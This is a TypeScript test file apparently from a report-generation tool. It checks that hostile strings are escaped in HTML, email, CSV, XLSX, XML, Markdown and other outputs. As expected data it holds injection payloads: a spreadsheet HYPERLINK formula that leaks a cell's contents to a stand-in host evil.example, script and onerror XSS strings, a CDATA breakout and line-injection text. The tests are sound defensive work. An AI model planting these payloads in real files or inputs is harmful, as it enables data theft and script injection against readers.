/**
 * The hostile-strings fixture through every format: markup stays text, spreadsheets get no formulas,
 * XML stays well-formed, Markdown cannot inject HTML or break a table row.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildReportModel } from '../../src/report/model.js';
import { renderEmailSummary } from '../../src/report/renderers/email-summary.js';
import { RENDERERS, REPORT_FORMATS, type ReportFormat } from '../../src/report/renderers/index.js';
import {
  escapeMarkdown,
  escapeXml,
  neutraliseFormula,
  oneLine,
  visibleControls,
} from '../../src/util/text-safety.js';
import { PACKAGE_ROOT } from '../../src/version.js';
import { FIXED_NOW, FIXED_SHA, fixtureAudit, fixtureSnapshot, HOSTILE } from '../fixtures/report/estate.js';

const snapshot = fixtureSnapshot({ hostile: true });
const model = buildReportModel({
  snapshot,
  snapshotSha256: FIXED_SHA,
  audit: fixtureAudit(snapshot),
  generatedAt: FIXED_NOW,
});

async function text(format: ReportFormat): Promise<string> {
  const out = await RENDERERS[format].render(model);
  return typeof out === 'string' ? out : Buffer.from(out).toString('utf8');
}

/** Tags an HTML document may contain: only the template's own. */
const ALLOWED_TAGS = new Set(
  'html head meta title style body div header span h1 h2 h3 h4 code table tr td th thead tbody details summary p ul li dl dt dd br strong em footer bdi input'.split(
    ' ',
  ),
);

/** The report's own script (sort and filter): present exactly once, byte for byte; the rest is checked. */
const OWN_SCRIPT = `<script>${readFileSync(join(PACKAGE_ROOT, 'reports', 'partials', 'report-js.js'), 'utf8')}</script>`;
function withoutOwnScript(html: string): string {
  if (!html.includes('<html')) return html;
  expect(html.split(OWN_SCRIPT).length - 1).toBe(1);
  return html.replace(OWN_SCRIPT, '');
}

function tagsOf(html: string): Set<string> {
  return new Set([...html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)/g)].map((m) => m[1]!.toLowerCase()));
}

/** A previous review whose names are hostile too: an escalated user, a leaver, a file name. */
function withHostilePrevious() {
  const previous = structuredClone(snapshot);
  const orgA = previous.organizations[0]!;
  orgA.users[0]!.orgRoles = ['ORG_MEMBER'];
  orgA.users.push({
    ...structuredClone(orgA.users[1]!),
    id: 'ff00000000000000000000ff',
    username: HOSTILE.script,
  });
  const previousAudit = fixtureAudit(previous);
  previousAudit.findings[0] = {
    ...previousAudit.findings[0]!,
    key: 'gone-rule|x',
    message: HOSTILE.img,
    subject: { type: 'user', id: 'ff00000000000000000000ff', name: HOSTILE.markdown },
  };
  return buildReportModel({
    snapshot,
    snapshotSha256: FIXED_SHA,
    audit: fixtureAudit(snapshot),
    generatedAt: FIXED_NOW,
    previous: { snapshot: previous, snapshotSha256: FIXED_SHA, file: HOSTILE.img, audit: previousAudit },
  });
}

describe('hostile strings', () => {
  it('the changes section (HTML, email, Markdown) escapes hostile names from both snapshots', async () => {
    const m = withHostilePrevious();
    expect(m.changes!.summary.escalations).toBe(1);
    expect(m.changes!.resolved).toHaveLength(1);
    const html = (await RENDERERS.html.render(m)) as string;
    for (const page of [html, renderEmailSummary(m).html]) {
      const doc = page.includes('id="findings"') ? withoutOwnScript(page) : page;
      for (const tag of tagsOf(doc)) expect(ALLOWED_TAGS.has(tag), `unexpected <${tag}>`).toBe(true);
      expect(doc).not.toContain('<script');
      expect(doc).not.toContain('<img');
    }
    expect(html).toContain('<h2 id="changes">');
    expect(html).toContain('&lt;script&gt;document.title&#x3D;&quot;pwned&quot;');
    const md = (await RENDERERS.markdown.render(m)) as string;
    expect(md).toContain('## Changes since the last review');
    expect(md).not.toContain('<script');
    expect(md).not.toContain('<img');
    for (const line of md.split('\n').filter((l) => l.startsWith('- '))) expect(line).not.toMatch(/[\r\t]/);
  });

  it('HTML report and email: every Atlas value escaped, no foreign tags or handlers', async () => {
    const byControl = (await RENDERERS.html.render(model, { groupBy: 'control' })) as string;
    for (const page of [
      (await RENDERERS.html.render(model)) as string,
      byControl,
      renderEmailSummary(model).html,
    ]) {
      const html = page.includes('id="findings"') ? withoutOwnScript(page) : page;
      for (const tag of tagsOf(html)) expect(ALLOWED_TAGS.has(tag), `unexpected <${tag}>`).toBe(true);
      expect(html).not.toContain('<script');
      expect(html).not.toContain('<img');
      expect(html).not.toMatch(/\sonerror=/i);
      expect(html).toContain('&lt;script&gt;document.title&#x3D;&quot;pwned&quot;');
    }
    const html = (await RENDERERS.html.render(model)) as string;
    expect(html).toContain('&lt;img src&#x3D;x onerror&#x3D;&quot;window.__pwned&#x3D;2&quot;&gt;');
    expect(html).toContain(HOSTILE.long);
    expect(html).toContain('🔥👩‍💻 ops-team 🚀');
    expect(html).toContain(HOSTILE.rtl);
    expect(html).toContain('O&#x27;Brien &quot;the&quot; &#x60;admin&#x60; &amp; &lt;co&gt;');
  });

  it('email text and subject carry no control characters or line breaks from data', () => {
    const email = renderEmailSummary(model);
    expect(email.subject).not.toMatch(/[\r\n]/);
    expect(email.text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(email.text).toContain(HOSTILE.script);
  });

  it('CSV: formula-like cells are apostrophe-prefixed and quoted; rows stay one per identity', async () => {
    const csv = await text('csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    expect(csv).toContain(`"'+SUM(1,2)"`);
    expect(csv).toContain(`'@SUM(A1)`);
    expect(csv).toContain(`'-2+3`);
    expect(csv).toContain(`"'\r=1+1"`);
    // No field (after a delimiter or at line start) begins with a formula character.
    const fields = csv.split(/,|\r\n/).map((f) => f.replace(/^"/, ''));
    for (const f of fields) expect(f).not.toMatch(/^[=+\-@\t]/);
  });

  it('JUnit: well-formed, hostile text only as escaped text, one <testcase> per finding or pass', async () => {
    const xml = await text('junit');
    expect(xml).not.toContain('<testcase name="fake"/>');
    expect(xml).toContain(']]&gt;&lt;/failure&gt;&lt;testcase name=&quot;fake&quot;/&gt;');
    const opens = (xml.match(/<testcase /g) ?? []).length;
    const total = Number(/<testsuites [^>]*tests="(\d+)"/.exec(xml)?.[1]);
    expect(opens).toBe(total);
    expect((xml.match(/<failure /g) ?? []).length).toBe(model.summary.findings.gating);
    expect(xml).not.toContain('\r');
  });

  it('Markdown: no raw HTML, no table-breaking pipes or newlines from data', async () => {
    const md = await text('markdown');
    expect(md).not.toContain('<script');
    expect(md).not.toContain('<b>');
    expect(md).toContain('&lt;script&gt;');
    expect(md).toContain('\\| pipe \\| \\`code\\` \\*\\*bold\\*\\* \\[link\\](http://evil.example)');
    for (const line of md.split('\n').filter((l) => l.startsWith('| '))) {
      const header = md.split('\n').find((l) => l.startsWith('|') && l.includes('---'));
      expect(header).toBeTruthy();
      // Unescaped pipes delimit cells: a data row never has more cells than the widest header.
      expect(line.split(/(?<!\\)\|/).length).toBeLessThanOrEqual(10);
    }
  });

  it('JSON: round-trips every hostile string exactly', async () => {
    const parsed = JSON.parse(await text('json'));
    expect(parsed.organizations[0].name).toBe(HOSTILE.script);
    expect(JSON.stringify(parsed)).toContain(JSON.stringify(HOSTILE.hyperlink).slice(1, -1));
  });

  it('text-safety helpers', () => {
    for (const s of ['=1', '+1', '-1', '@a', '\tx', '\rx']) expect(neutraliseFormula(s)).toBe(`'${s}`);
    expect(neutraliseFormula('alice@example.com')).toBe('alice@example.com');
    expect(escapeMarkdown('a|b\nc')).toBe('a\\|b c');
  });
});

/**
 * An org name with everything an output can get wrong: a terminal escape and a bell (C0), a C1 CSI, a
 * bidi override, an astral character (a surrogate pair), the CDATA end `]]>`, markup, Markdown and
 * table syntax, a quote, a formula prefix and a line break followed by text that must not start a line.
 */
const EVIL = '=Evil\u001b[31m\u0007\u009b \u{1D518}\u202e ]]> <b>x</b> | *y* "q"\r\nINJECTED: line';
const evilModel = (() => {
  const snap = fixtureSnapshot({ hostile: true });
  snap.organizations[0]!.name = EVIL;
  return buildReportModel({
    snapshot: snap,
    snapshotSha256: FIXED_SHA,
    snapshotFile: `snap\n${EVIL}.json`,
    audit: fixtureAudit(snap),
    generatedAt: FIXED_NOW,
  });
})();

const RAW_CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const ASTRAL = '\u{1D518}';

/** No value starts a line: the text after the break in EVIL never begins one. */
function noInjectedLine(out: string): void {
  expect(out).toContain('INJECTED: line');
  for (const line of out.split(/\r\n|\n/)) expect(line.startsWith('INJECTED')).toBe(false);
}

/** XML: well-formed enough to parse the same, attributes carry no raw line breaks or tabs. */
function checkXml(xml: string): void {
  expect(xml).not.toMatch(RAW_CONTROLS);
  expect(xml).not.toContain('<b>');
  expect(xml).not.toContain(']]>');
  expect(xml).toContain(']]&gt;');
  expect(xml).toContain(ASTRAL);
  for (const m of xml.matchAll(/="([^"]*)"/g)) expect(m[1]).not.toMatch(/[\r\n\t<]/);
  expect(xml).toContain('&#10;INJECTED: line');
  expect(xml).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
}

/** Each registry entry's own escaping, over the EVIL org name (a Record: every format has a check). */
const CHECKS: Record<ReportFormat, (out: string | Uint8Array) => void | Promise<void>> = {
  text: (out) => {
    const t = String(out);
    expect(t).not.toMatch(RAW_CONTROLS);
    expect(t).not.toContain('\r');
    expect(t).toContain(ASTRAL);
    noInjectedLine(t);
  },
  github: (out) => {
    const t = String(out);
    expect(t).not.toMatch(RAW_CONTROLS);
    for (const line of t.trimEnd().split('\n')) expect(line).toMatch(/^(::(error|warning|notice) |audit: )/);
    // The file property: `:` and `,` delimit properties; the message: `%`, CR and LF are encoded.
    expect(t).toContain('file=snap%0A=Evil\ufffd[31m');
    expect(t).toContain('INJECTED%3A line.json,title=');
    expect(t).toContain('%0D%0AINJECTED: line');
    expect(t).toContain(ASTRAL);
  },
  markdown: (out) => {
    const t = String(out);
    expect(t).not.toMatch(RAW_CONTROLS);
    expect(t).not.toContain('<b>');
    expect(t).toContain('&lt;b&gt;x&lt;/b&gt; \\| \\*y\\*');
    expect(t).toContain(ASTRAL);
    noInjectedLine(t);
  },
  junit: (out) => checkXml(String(out)),
  json: (out) => {
    const doc = JSON.parse(String(out));
    expect(doc.organizations[0].name).toBe(EVIL);
    expect(String(out)).not.toMatch(RAW_CONTROLS);
  },
  sarif: (out) => {
    const doc = JSON.parse(String(out));
    expect(
      doc.runs[0].results.some((r: { message: { text: string } }) => r.message.text.includes(EVIL)),
    ).toBe(true);
    expect(String(out)).not.toMatch(RAW_CONTROLS);
  },
  html: (out) => {
    const html = withoutOwnScript(String(out));
    for (const tag of tagsOf(html)) expect(ALLOWED_TAGS.has(tag), `unexpected <${tag}>`).toBe(true);
    expect(html).not.toContain('<b>x');
    expect(html).toContain(ASTRAL);
  },
  email: (out) => {
    const html = String(out);
    for (const tag of tagsOf(html)) expect(ALLOWED_TAGS.has(tag), `unexpected <${tag}>`).toBe(true);
    expect(html).not.toContain('<b>x');
  },
  csv: (out) => {
    const csv = String(out);
    expect(csv).toContain(`"'=Evil`);
    const fields = csv.split(/,|\r\n/).map((f) => f.replace(/^"/, ''));
    for (const f of fields) expect(f).not.toMatch(/^[=+\-@\t]/);
  },
  xlsx: async (out) => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(out as Uint8Array) as unknown as ArrayBuffer);
    let seen = 0;
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((c) => {
          if (typeof c.value === 'string' && c.value.includes('Evil')) {
            seen++;
            expect(c.value.startsWith('=')).toBe(false);
          }
          expect(c.formula ?? null).toBe(null);
        }),
      );
    expect(seen).toBeGreaterThan(0);
  },
};

describe('every registry entry escapes hostile Atlas values', () => {
  for (const format of REPORT_FORMATS) {
    it(`${format}`, async () => {
      await CHECKS[format](await RENDERERS[format].render(evilModel));
    });
  }

  it('the one XML escaper: astral characters intact, breaks in attributes as references, controls visible', () => {
    expect(escapeXml('a\u{1F600}b')).toBe('a\u{1F600}b');
    expect(escapeXml('a\nb\tc\rd')).toBe('a&#10;b&#9;c&#13;d');
    expect(escapeXml('a\nb\rc', false)).toBe('a\nb&#13;c');
    expect(escapeXml('\u0000\u001b\ud800\uffff]]>&\'"')).toBe(
      '\ufffd\ufffd\ufffd\ufffd]]&gt;&amp;&apos;&quot;',
    );
  });

  it('the one control filter: visible, astral and ordinary whitespace kept', () => {
    expect(visibleControls('a\u0007\u009b\u202e\u2066\t\n\r\u{1D518}')).toBe(
      'a\ufffd\ufffd\ufffd\ufffd\t\n\r\u{1D518}',
    );
    expect(oneLine('a\r\nb\tc\u001b')).toBe('a b c\ufffd');
    expect(escapeMarkdown('a\u001b<b>')).toBe('a\ufffd&lt;b&gt;');
  });

  it('the control filter and the line folder give what a plain replace gives, for every code unit', () => {
    // visibleControls and oneLine skip their replace when a cheaper test finds nothing to replace: that
    // test must find every code unit the replace would touch, alone, paired or beside ordinary text.
    const exact = (t: string) =>
      t.replace(
        /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ufffe\uffff]|[\ud800-\udfff]/gu,
        '\ufffd',
      );
    const folded = (t: string) => exact(t).replace(/\r\n|[\r\n\t]/g, ' ');
    let changed = 0;
    for (let c = 0; c <= 0xffff; c++) {
      const ch = String.fromCharCode(c);
      for (const t of [ch, `ab${ch}cd`, `${ch}\udc00`, `\ud83d${ch}`]) {
        if (visibleControls(t) !== exact(t) || oneLine(t) !== folded(t))
          throw new Error(`U+${c.toString(16).padStart(4, '0')} in ${JSON.stringify(t)}`);
        if (exact(t) !== t) changed++;
      }
    }
    expect(changed).toBeGreaterThan(4 * 2100); // the C0, C1, bidi and surrogate ranges were exercised
    expect(visibleControls('plain text')).toBe('plain text');
    expect(oneLine('a\u{1F600}b')).toBe('a\u{1F600}b');
  });
});
